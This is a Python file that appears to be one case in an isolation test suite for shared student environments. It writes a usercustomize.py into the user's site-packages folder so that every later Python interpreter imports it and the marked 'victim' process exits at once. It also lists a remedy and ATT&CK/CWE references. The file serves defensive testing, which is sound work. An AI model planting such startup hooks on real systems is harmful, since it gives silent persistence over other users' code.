# SPDX-License-Identifier: MIT
"""Goal:  our code runs in every Python of this user from now on, the next student's first of all.
Means: usercustomize.py in the user's own site folder, below the home folder. Every interpreter
       imports it before its first line. No process is left behind, and a cleaner that is itself a
       Python program runs it too.
"""

import os
import site
import sys

from attack import DONE, attempting, denied

PLANTED = """\
import os, sys
if "role=victim" in sys.orig_argv:
    os._exit(1)
"""


def run(_brief):
    folder = site.getusersitepackages()
    attempting()
    try:
        os.makedirs(folder, exist_ok=True)
        with open(f"{folder}/usercustomize.py", "w", encoding="ascii") as file:
            file.write(PLANTED)
    except OSError as why:
        return denied(folder, why)
    return DONE


def victim(_brief):
    """A student at the beginning of the course."""
    print(sum(range(10)), sys.version_info.major)
    return DONE


ATTACK = {
    "effect": "the next student's Python ends before its first line",
    "means": "usercustomize.py in the home folder's site-packages",
    "oracle": "victim",
    "scene": "before-victim",
    "quick": True,
    "id": "PERS-11",
    "attack_id": "T1546, CWE-459, CWE-427",
    "remedy": "a home folder of one's own, removed afterwards; python3 -I, or PYTHONNOUSERSITE",
    "refs": ["Python: site"],
    "run": run,
    "victim": victim,
}
